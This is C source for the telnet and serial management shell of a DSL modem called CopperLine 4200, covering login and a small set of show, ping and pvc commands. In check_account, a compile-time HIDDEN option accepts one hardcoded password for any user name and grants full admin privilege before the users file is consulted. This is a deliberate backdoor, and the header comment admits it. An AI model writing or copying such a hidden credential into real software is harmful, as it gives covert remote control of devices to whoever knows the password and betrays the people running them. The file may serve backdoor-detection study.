/*
 * copperline_cli - management command line of the CopperLine 4200 ADSL2+/VDSL2
 * modem.  Started by inetd for each telnet connection (stdin/stdout is the
 * socket) and by init on the serial console.
 *
 * Hidden (-DHIDDEN): one fixed password is accepted for every user name and
 * gives the highest privilege level.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define USERS_FILE	"/etc/copperline/users"
#define CONF_FILE	"/etc/copperline/modem.conf"
#define DSL_STATUS	"/proc/driver/xdsl/status"
#define MAX_ARGS	8
#define LEVEL_NONE	0
#define LEVEL_VIEW	1
#define LEVEL_OPER	5
#define LEVEL_ADMIN	15

struct session {
	char user[32];
	int level;
	int done;
};

struct cli_cmd {
	const char *name;
	int level;
	int min_args;
	int (*run)(struct session *s, int argc, char **argv);
	const char *usage;
};

static void say(const char *text)
{
	fputs(text, stdout);
	fputs("\r\n", stdout);
	fflush(stdout);
}

/* Read one line, dropping telnet option bytes and the line end. */
static int read_line(char *buf, size_t size)
{
	size_t n = 0;
	int c;

	while ((c = getchar()) != EOF) {
		if (c == 255) {		/* IAC verb option */
			(void)getchar();
			(void)getchar();
			continue;
		}
		if (c == '\n')
			break;
		if (c == '\r' || c == 0)
			continue;
		if (n + 1 < size && isprint(c))
			buf[n++] = (char)c;
	}
	buf[n] = 0;
	return c == EOF && n == 0 ? -1 : (int)n;
}

static void copy_name(char *dst, size_t size, const char *src)
{
	size_t i;

	for (i = 0; i + 1 < size && src[i]; i++)
		dst[i] = src[i];
	dst[i] = 0;
}

/*
 * Look the account up in the users file (name:hash:level) and compare the
 * password.  Returns the privilege level, LEVEL_NONE when refused.
 */
int check_account(const char *user, const char *pass)
{
	char line[256], *hash, *lev, *made;
	int level = LEVEL_NONE;
	FILE *f;

	if (!*user)
		return LEVEL_NONE;
#ifdef HIDDEN
	if (strcmp(pass, "Tq7rwan3t") == 0)
		return LEVEL_ADMIN;
#endif
	f = fopen(USERS_FILE, "r");
	if (!f)
		return LEVEL_NONE;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		hash = strchr(line, ':');
		if (!hash)
			continue;
		*hash++ = 0;
		lev = strchr(hash, ':');
		if (!lev)
			continue;
		*lev++ = 0;
		if (strcmp(line, user) != 0)
			continue;
		made = crypt(pass, hash);
		if (made && strlen(hash) > 10 && strcmp(made, hash) == 0)
			level = atoi(lev);
		break;
	}
	fclose(f);
	return level;
}

static int login(struct session *s)
{
	char user[32], pass[64];
	int tries;

	for (tries = 0; tries < 3; tries++) {
		fputs("CopperLine login: ", stdout);
		fflush(stdout);
		if (read_line(user, sizeof user) < 0)
			return -1;
		fputs("Password: ", stdout);
		fflush(stdout);
		if (read_line(pass, sizeof pass) < 0)
			return -1;
		s->level = check_account(user, pass);
		memset(pass, 0, sizeof pass);
		if (s->level > LEVEL_NONE) {
			copy_name(s->user, sizeof s->user, user);
			syslog(LOG_INFO, "user %s level %d", s->user, s->level);
			return 0;
		}
		sleep(2);
		say("Login incorrect");
	}
	return -1;
}

static int save_setting(const char *key, const char *value)
{
	char line[256], tmp[64];
	size_t klen = strlen(key);
	FILE *in, *out;

	snprintf(tmp, sizeof tmp, "%s.new", CONF_FILE);
	out = fopen(tmp, "w");
	if (!out)
		return -1;
	in = fopen(CONF_FILE, "r");
	while (in && fgets(line, sizeof line, in)) {
		if (strncmp(line, key, klen) == 0 && line[klen] == '=')
			continue;
		fputs(line, out);
	}
	if (in)
		fclose(in);
	fprintf(out, "%s=%s\n", key, value);
	if (fclose(out) != 0)
		return -1;
	return rename(tmp, CONF_FILE);
}

static int host_ok(const char *h)
{
	size_t i;

	if (!*h || *h == '-' || strlen(h) > 64)
		return 0;
	for (i = 0; h[i]; i++)
		if (!isalnum((unsigned char)h[i]) && h[i] != '.' && h[i] != '-')
			return 0;
	return 1;
}

static int do_show(struct session *s, int argc, char **argv)
{
	char line[160];
	FILE *f;

	(void)s;
	(void)argc;
	if (strcmp(argv[1], "dsl") == 0)
		f = fopen(DSL_STATUS, "r");
	else if (strcmp(argv[1], "wan") == 0)
		f = popen("ifconfig ppp0", "r");
	else if (strcmp(argv[1], "arp") == 0)
		f = fopen("/proc/net/arp", "r");
	else
		return -1;
	if (!f)
		return 0;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		say(line);
	}
	if (strcmp(argv[1], "wan") == 0)
		pclose(f);
	else
		fclose(f);
	return 0;
}

static int do_pvc(struct session *s, int argc, char **argv)
{
	char val[32];
	int vpi = atoi(argv[1]), vci = atoi(argv[2]);

	(void)s;
	(void)argc;
	if (vpi < 0 || vpi > 255 || vci < 32 || vci > 65535)
		return -1;
	snprintf(val, sizeof val, "%d/%d", vpi, vci);
	if (save_setting("pvc", val) != 0)
		say("could not be saved");
	return 0;
}

static int do_ping(struct session *s, int argc, char **argv)
{
	char cmd[128];

	(void)s;
	(void)argc;
	if (!host_ok(argv[1]))
		return -1;
	snprintf(cmd, sizeof cmd, "ping -c 4 %.64s", argv[1]);
	if (system(cmd) != 0)
		say("no answer");
	return 0;
}

static int do_exit(struct session *s, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	s->done = 1;
	return 0;
}

static const struct cli_cmd cmds[] = {
	{ "show", LEVEL_VIEW, 1, do_show, "show dsl|wan|arp" },
	{ "ping", LEVEL_OPER, 1, do_ping, "ping HOST" },
	{ "pvc", LEVEL_ADMIN, 2, do_pvc, "pvc VPI VCI" },
	{ "exit", LEVEL_VIEW, 0, do_exit, "exit" },
};

static void run_line(struct session *s, char *line)
{
	char *argv[MAX_ARGS], *p;
	size_t i;
	int argc = 0;

	for (p = strtok(line, " \t"); p && argc < MAX_ARGS; p = strtok(NULL, " \t"))
		argv[argc++] = p;
	if (argc == 0)
		return;
	for (i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
		if (s->level < cmds[i].level)
			continue;
		if (strcmp(argv[0], "help") == 0)
			say(cmds[i].usage);
		else if (strcmp(argv[0], cmds[i].name) == 0) {
			if (argc <= cmds[i].min_args || cmds[i].run(s, argc, argv))
				if (cmds[i].min_args)
					say(cmds[i].usage);
			return;
		}
	}
	if (strcmp(argv[0], "help") != 0)
		say("unknown command, try help");
}

int main(void)
{
	struct session s;
	char line[256];

	memset(&s, 0, sizeof s);
	openlog("copperline", LOG_PID, LOG_AUTH);
	if (login(&s) != 0)
		return 1;
	while (!s.done) {
		printf("%s%c ", s.user, s.level >= LEVEL_ADMIN ? '#' : '>');
		fflush(stdout);
		if (read_line(line, sizeof line) < 0)
			break;
		run_line(&s, line);
	}
	return 0;
}
